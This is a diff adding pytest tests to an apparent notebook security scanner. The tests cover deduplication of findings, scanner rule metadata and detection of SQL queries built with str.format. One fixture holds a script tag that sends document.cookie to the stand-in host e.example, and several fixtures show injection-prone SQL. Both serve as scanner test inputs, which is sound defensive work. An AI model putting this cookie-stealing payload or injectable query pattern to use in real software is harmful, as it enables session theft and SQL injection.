@@ -161,3 +161,37 @@ def test_ten_thousand_cells(audit):
     cells = ["import pickle"] + ["x = 1"] * 10_000 + ["pickle.load(f)"]
     (finding,) = [item for item in audit(*cells) if item.rule.id == "LOAD-PICKLE"]
     assert finding.location.cell == 10_002
+
+
+def test_the_same_is_not_said_twice(audit):
+    html = "<script>fetch('https://e.example/?' + document.cookie)</script>"
+    found = audit(f'from IPython.display import HTML\nHTML("{html}")\nHTML("{html}")')
+    places = [(item.rule.id, item.location) for item in found]
+    assert len(places) == len(set(places))
+
+
+def test_the_scanner_says_what_it_is():
+    from mlsec_nb.config import Settings
+    from mlsec_nb.core import Artifact
+    from mlsec_nb.io.files import Memory
+    from mlsec_nb.scanners import available
+
+    scanner = available()["code"](Settings())
+    assert scanner.name == "code"
+    assert len({rule.id for rule in scanner.rules}) == len(scanner.rules) > 100
+    assert scanner.wants(Artifact("n.ipynb", Kind.NOTEBOOK, Memory(b"")))
+    assert not scanner.wants(Artifact("m.pt", Kind.MODEL, Memory(b"")))
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        ("'{} {x}'.format(name, x=a)", None),
+        ("q = \"SELECT * FROM t WHERE a = '{0}'\".format(name)\ncur.execute(q)", "CODE-SQL-BUILT"),
+        ("q = \"SELECT * FROM t WHERE a = '{a}'\".format(a=name)\ncur.execute(q)", "CODE-SQL-BUILT"),
+        ("t = 'people'\nq = 'SELECT * FROM {a}'.format(a=t)\ncur.execute(q)", None),
+    ],
+)
+def test_texts_that_format_builds(audit, text, rule):
+    found = rules(audit(text), Severity.MEDIUM)
+    assert found == ({rule} if rule else set())
